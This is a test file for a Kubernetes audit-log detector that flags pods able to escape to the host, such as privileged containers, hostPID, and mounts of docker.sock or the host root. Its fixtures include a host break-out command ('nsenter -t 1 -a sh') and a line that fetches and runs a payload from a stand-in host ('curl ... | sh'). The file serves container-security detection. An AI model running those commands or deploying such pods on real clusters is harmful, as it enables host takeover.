import { describe, expect, it } from 'vitest';
import type { ApiObservation } from '../../../../src/model/observation.js';
import { podBody, request, run, workloadBody } from './pack.js';

const ID = 'k8s-escape-ready-workload';
const sock = [{ name: 's', hostPath: { path: '/var/run/docker.sock' } }];
const root = [{ name: 's', hostPath: { path: '/' } }];
const etc = [{ name: 's', hostPath: { path: '/etc/kubernetes/pki/' } }];
const srv = [{ name: 's', hostPath: { path: '/srv/data' } }];
const mounted = (volumes: unknown[]): Partial<ApiObservation> => ({
  requestObject: podBody(
    [{ name: 'c', image: 'alpine', volumeMounts: [{ name: 's', mountPath: '/h' }] }],
    {
      volumes,
    },
  ),
});
const one = (sc: unknown, spec: Record<string, unknown> = {}): Partial<ApiObservation> => ({
  requestObject: podBody([{ name: 'c', image: 'alpine', securityContext: sc }], spec),
});

describe(ID, () => {
  it.each([
    ['hostNetwork alone', one({}, { hostNetwork: true }), 'medium', 'hostNetwork'],
    ['privileged', one({ privileged: true }), 'high', 'privileged (container c)'],
    [
      'privileged with hostPID',
      one({ privileged: true }, { hostPID: true }),
      'critical',
      'hostPID',
    ],
    ['runtime socket', mounted(sock), 'critical', 'runtime socket /var/run/docker.sock'],
    ['host root', mounted(root), 'critical', 'host root /'],
    ['sensitive path', mounted(etc), 'high', 'sensitive host path /etc/kubernetes/pki'],
    ['SYS_ADMIN', one({ capabilities: { add: ['CAP_SYS_ADMIN'] } }), 'high', 'SYS_ADMIN'],
    ['seccomp off', one({ seccompProfile: { type: 'Unconfined' } }), 'medium', 'seccomp'],
    ['hostIPC', one({}, { hostIPC: true }), 'medium', 'hostIPC'],
  ])('reports %s', (_, over, severity, reason) => {
    const { hits } = run(ID, [request(over)]);
    expect(hits).toHaveLength(1);
    expect(hits[0]!.hit.severity).toBe(severity);
    expect(hits[0]!.hit.summary).toContain(reason);
  });

  it('lists every reason of every container kind in one hit', () => {
    const body = podBody([{ name: 'app', image: 'alpine' }], {
      hostNetwork: true,
      initContainers: [{ name: 'init', image: 'busybox', securityContext: { privileged: true } }],
      ephemeralContainers: [
        {
          name: 'dbg',
          image: 'busybox',
          securityContext: { capabilities: { add: ['SYS_PTRACE'] } },
        },
      ],
    });
    const { hits } = run(ID, [request({ requestObject: body })]);
    expect(hits).toHaveLength(1);
    expect(hits[0]!.hit.summary).toMatch(/hostNetwork.*privileged \(container init\).*SYS_PTRACE/);
  });

  it.each([
    ['Deployment', 'deployments'],
    ['DaemonSet', 'daemonsets'],
    ['StatefulSet', 'statefulsets'],
    ['Job', 'jobs'],
  ])('reads the pod template of a %s', (kind, resource) => {
    const body = workloadBody(kind, [
      { name: 'c', image: 'x', securityContext: { privileged: true } },
    ]);
    const { hits } = run(ID, [request({ resource, name: 'web', requestObject: body })]);
    expect(hits[0]!.hit.summary).toMatch(new RegExp(`^${kind} default/web created`));
  });

  it('reads a CronJob template one level deeper', () => {
    const requestObject = {
      kind: 'CronJob',
      spec: {
        jobTemplate: {
          spec: { template: { spec: { hostPID: true, containers: [{ name: 'c' }] } } },
        },
      },
    };
    const { hits } = run(ID, [request({ resource: 'cronjobs', requestObject })]);
    expect(hits).toHaveLength(1);
  });

  const quiet: [string, Partial<ApiObservation>][] = [
    ['a plain pod', one({ privileged: false }, { hostNetwork: false })],
    ['a refused create', { ...one({ privileged: true }), code: 403 }],
    ['a get', { verb: 'get', ...one({ privileged: true }) }],
    ['a status update', { verb: 'update', subresource: 'status', ...one({ privileged: true }) }],
    [
      'a trusted image',
      {
        requestObject: podBody([
          { name: 'f', image: 'falcosecurity/falco:0.38', securityContext: { privileged: true } },
        ]),
      },
    ],
    [
      'a system image in kube-system',
      {
        namespace: 'kube-system',
        requestObject: podBody(
          [
            {
              name: 'p',
              image: 'registry.k8s.io/kube-proxy:v1.30.2',
              securityContext: { privileged: true },
            },
          ],
          { hostNetwork: true },
        ),
      },
    ],
    [
      'an unmounted hostPath',
      { requestObject: podBody([{ name: 'c', image: 'x' }], { volumes: root }) },
    ],
    ['a writable ordinary host folder', mounted(srv)],
    [
      'hostile containers',
      { requestObject: { kind: 'Pod', spec: { containers: 'privileged', hostPID: 'yes' } } },
    ],
    [
      'a hostile securityContext',
      { requestObject: podBody([{ name: 1, image: 2, securityContext: [true] }, null, 7]) },
    ],
    ['a body with no spec', { requestObject: { kind: 'Pod' } }],
  ];
  it.each(quiet)('stays quiet on %s', (_, over) => {
    const { hits } = run(ID, [request(over)]);
    expect(hits).toEqual([]);
  });

  it('judges a patch by the object the server stored', () => {
    const { hits } = run(ID, [
      request({
        verb: 'patch',
        requestObject: { spec: { template: {} } },
        responseObject: workloadBody('Deployment', [{ name: 'c', image: 'x' }], { hostPID: true }),
        resource: 'deployments',
      }),
    ]);
    expect(hits[0]!.hit.summary).toContain('patched');
  });

  it('counts a write with no body as not evaluable, once per request', () => {
    const { hits, notEvaluable } = run(ID, [
      request({ level: 'Metadata', requestObject: null }),
      request({ level: 'Metadata', requestObject: null, resource: 'deployments' }),
      request({ level: 'Metadata', verb: 'get', requestObject: null }),
    ]);
    expect(hits).toEqual([]);
    expect(notEvaluable).toEqual([
      expect.objectContaining({ count: 2, reason: 'audit level Metadata carries no request body' }),
    ]);
  });

  it.each([
    [
      'a trusted image running a break-out command',
      { image: 'falcosecurity/falco-no-driver', command: ['nsenter', '-t', '1', '-a', 'sh'] },
      {},
      ['runs nsenter (container c)'],
    ],
    [
      'a trusted image mounting the host root',
      { image: 'calico/node:v3.28', volumeMounts: [{ name: 'root', mountPath: '/host' }] },
      { volumes: [{ name: 'root', hostPath: { path: '/' } }] },
      ['host root / at /host (container c)'],
    ],
    [
      'a trusted image with privileges only',
      { image: 'calico/node:v3.28', securityContext: { privileged: true } },
      { hostNetwork: true },
      [],
    ],
    [
      'an untrusted image fetching a payload',
      { image: 'alpine', command: ['sh', '-c', 'curl -s http://x.example/p | sh'] },
      {},
      ['runs curl -s http://x.example/p | sh (container c)'],
    ],
  ])('%s', (_, container, spec, reasons) => {
    const body = podBody([{ name: 'c', ...container }], spec);
    const { hits } = run('k8s-escape-ready-workload', [request({ requestObject: body })]);
    expect(hits.map((h) => h.hit.summary)).toEqual(
      reasons.length === 0 ? [] : [expect.stringContaining(reasons[0]!)],
    );
  });
});
